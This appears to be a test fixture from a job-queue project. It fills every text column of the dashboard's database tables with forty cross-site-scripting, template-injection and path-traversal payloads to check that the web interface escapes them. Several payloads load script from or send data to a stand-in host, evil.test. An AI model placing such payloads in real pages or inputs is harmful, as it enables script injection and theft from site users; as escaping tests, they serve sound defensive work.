"""A database whose every text is made to break out of a page: forty payloads, a row of each table for each of them."""

from collections.abc import Sequence
from uuid import UUID

from sqlalchemy import Engine, text

from tests.support.dashboard import stage_dashboard

_SHOUT = "alert(document.domain)"
PAYLOADS: Sequence[str] = (
    f"<script>{_SHOUT}</script>",
    f'"><script>{_SHOUT}</script>',
    f"'><script>{_SHOUT}</script>",
    f"</script><script>{_SHOUT}</script>",
    f"</title><script>{_SHOUT}</script>",
    f"</style><script>{_SHOUT}</script>",
    f"</textarea><script>{_SHOUT}</script>",
    f"</template><script>{_SHOUT}</script>",
    f"</pre><script>{_SHOUT}</script>",
    f"</code></td></tr></table><script>{_SHOUT}</script>",
    f"--><script>{_SHOUT}</script><!--",
    f"]]><script>{_SHOUT}</script>",
    f"<scr<script>ipt>{_SHOUT}</scr</script>ipt>",
    "<script src=//evil.test/x.js></script>",
    "<script src=data:,alert(1)></script>",
    f"<img src=x onerror={_SHOUT}>",
    f'" onerror="{_SHOUT}" src="x',
    f"' autofocus onfocus='{_SHOUT}",
    f'" onmouseover={_SHOUT} x="',
    f"<svg onload={_SHOUT}>",
    f"<svg><script>{_SHOUT}</script></svg>",
    f"<body onload={_SHOUT}>",
    f"<details open ontoggle={_SHOUT}>",
    f"<iframe srcdoc='<script>{_SHOUT}</script>'>",
    "<iframe src=javascript:alert(1)>",
    f"<object data='data:text/html,<script>{_SHOUT}</script>'>",
    "<embed src=//evil.test/x.swf>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test/'>",
    "<form action=//evil.test/><button>Send</button></form>",
    "<style>*{background:url(//evil.test/x)}</style>",
    "<a href=javascript:alert(1)>here</a>",
    "javascript:alert(document.domain)",
    "<div hx-get=//evil.test/x hx-trigger=load>x</div>",
    f"<div hx-on::load={_SHOUT} hx-trigger=load>x</div>",
    "{{ 7 * 7 }}{% raw %}${7*7}<%= 7*7 %>#{7*7}",
    "../../../etc/passwd?a=b#c&d;e%00%2e%2e%2f",
    "\u202e\u2066<b>evil</b>\u2069 \ufeff\u200b\x7f",
    f"&lt;script&gt;{_SHOUT}&lt;/script&gt;&#x3c;img src=x onerror={_SHOUT}&#x3e;",
)

# Of the numbers, so that ids begin with a time and no two tables share one.
_BASES = {"jobs": 4_096, "dead": 8_192, "done": 16_384}
_ID = "CAST('01929e1c-5a7d-7cc3-9a55-' || lpad(to_hex({base} + p.i), 12, '0') AS uuid)"
_ERRORS = """jsonb_build_array(jsonb_build_object('attempt', 1, 'at', p.t, 'type', p.t, 'message', p.t,
  'where', jsonb_build_array(p.t), 'chain', jsonb_build_array(jsonb_build_object('type', p.t, 'message', p.t,
  'notes', jsonb_build_array(p.t), 'frames', jsonb_build_array(jsonb_build_array(p.t, 1, p.t))))))"""
_FILL = (
    f"""INSERT INTO outboxq.job (id, queue, kind, args, headers, errors, state, run_at, created_at, attempt, group_key)
SELECT {_ID.format(base=_BASES["jobs"])}, p.q, p.k, jsonb_build_object(p.t, p.t, 'list', jsonb_build_array(p.t)),
  jsonb_build_object('traceparent', p.t, p.k, p.t), {_ERRORS}, CASE WHEN p.i % 2 = 0 THEN 'ready' ELSE 'scheduled' END,
  clock_timestamp() + make_interval(mins => p.i - 10), clock_timestamp(), 1, CASE WHEN p.i % 2 = 1 THEN p.t END
FROM hostile AS p""",
    f"""INSERT INTO outboxq.dead_job (id, queue, kind, args, headers, priority, attempt, crashes, errors, reason,
  created_at, died_at) SELECT {_ID.format(base=_BASES["dead"])}, p.q, p.k, jsonb_build_object(p.t, p.t),
  jsonb_build_object('x', p.t), 0, 3, 0, {_ERRORS}, p.t, clock_timestamp(), clock_timestamp() FROM hostile AS p""",
    f"""INSERT INTO outboxq.done_job (id, queue, kind, outcome, attempt, created_at, finished_at, seconds,
  args, headers, result, expires_at)
SELECT {_ID.format(base=_BASES["done"])}, p.q, p.k, 'done', 1, clock_timestamp(), clock_timestamp(), 0.1,
  jsonb_build_object(p.t, p.t), '{{}}', jsonb_build_array(p.t), clock_timestamp() + interval '1 day'
FROM hostile AS p""",
    """INSERT INTO outboxq.effect (scope, key, status, in_doubt, provider_key, attempts, lock_token, locked_until,
  first_called_at, changed_at, error) SELECT p.t, p.t, 'unknown', true, gen_random_uuid(), 1, gen_random_uuid(),
  clock_timestamp() - interval '1 hour', clock_timestamp(), clock_timestamp(), p.t FROM hostile AS p""",
    """INSERT INTO outboxq.inbox (consumer, message_id, seen_at, expires_at)
SELECT p.k, p.t, clock_timestamp(), clock_timestamp() + interval '1 day' FROM hostile AS p""",
    """INSERT INTO outboxq.schedule (name, kind, queue, args, options, cron, time_zone, missed,
  jitter_seconds, declared, next_at, created_at, owner, paused_at, disabled_at)
SELECT p.k, p.k, p.q, jsonb_build_object(p.t, p.t), '{}', '0 6 * * 1', 'UTC', 'skip', 0, false,
  clock_timestamp() + interval '1 day', clock_timestamp(), p.k, p.at, p.at
FROM (SELECT *, CASE WHEN i % 2 = 0 THEN clock_timestamp() END AS at FROM hostile) AS p""",
    """INSERT INTO outboxq.relay_status (id, host, pid, version, schema_step, state, queues, kinds, slots, busy, free,
  listens, running, flush) SELECT gen_random_uuid(), p.t, p.i, p.k, 11, 'serving', ARRAY[p.q], ARRAY[p.k], 4, 1,
  ARRAY[p.q], true, jsonb_build_array(jsonb_build_object('id', gen_random_uuid(), 'queue', p.q, 'kind', p.k,
  'attempt', 1, 'seconds', 9.0, 'pid', 1)), 1 FROM hostile AS p""",
    """INSERT INTO outboxq.stat (grain, at, queue, kind, done, retried, died, wait, run)
SELECT 60, date_trunc('minute', clock_timestamp()), p.q, p.k, 9, 1, 1, array_fill(1, ARRAY[20]),
  array_fill(1, ARRAY[20]) FROM hostile AS p""",
    """INSERT INTO outboxq.audit (id, actor, role, via, db_user, action, target, filter, reason, error, changed, held)
SELECT gen_random_uuid(), p.t, p.t, 'web', p.t, p.k, p.t, jsonb_build_object('kind', p.t), p.t, p.t, 1, 0
FROM hostile AS p""",
    """INSERT INTO outboxq.paused_kind (queue, kind) SELECT p.q, p.k FROM hostile AS p WHERE p.i % 4 = 0
ON CONFLICT DO NOTHING""",
    """INSERT INTO outboxq.queue (name, paused_at) SELECT p.q, CASE WHEN p.i % 4 = 1 THEN clock_timestamp() END
FROM hostile AS p ON CONFLICT DO NOTHING""",
    f"""INSERT INTO outboxq.progress (job_id, attempt, fraction, note, relay)
SELECT {_ID.format(base=_BASES["jobs"])}, 1, 0.5, p.t, gen_random_uuid() FROM hostile AS p""",
)


def fill_hostile(engine: Engine, payloads: Sequence[str] = PAYLOADS) -> None:
    """Put each payload wherever a text of others may stand, beside the rows that every screen has."""
    stage_dashboard(engine)
    rows = [
        {"i": number, "t": as_text(each), "k": as_name(each), "q": as_queue(each)}
        for number, each in enumerate(payloads, 1)
    ]
    with engine.begin() as connection:
        connection.execute(text("CREATE TEMPORARY TABLE hostile (i int, t text, k text, q text) ON COMMIT DROP"))
        connection.execute(text("INSERT INTO hostile VALUES (:i, :t, :k, :q)"), rows)
        for statement in _FILL:
            connection.exec_driver_sql(statement.replace("%", "%%"))


def hostile_id(of: str, number: int) -> UUID:
    """The id of the row of a payload, from 1: one of `jobs`, `dead` or `done`."""
    return UUID(f"01929e1c-5a7d-7cc3-9a55-{_BASES[of] + number:012x}")


def as_text(payload: str) -> str:
    """A payload as a text may have it: keys and names take no control character."""
    return "".join(each for each in payload if ord(each) >= 32 and not 127 <= ord(each) < 160)


def as_name(payload: str) -> str:
    """A payload as the name of a kind: as much of it as 63 bytes hold."""
    return as_text(payload).replace("document.domain", "1").encode()[:63].decode(errors="ignore")


def as_queue(payload: str) -> str:
    """A payload as the name of a queue, which has no comma, `=` or star, and no space at its ends."""
    return as_name(payload).translate(dict.fromkeys(map(ord, ",=*"), "+")).strip()
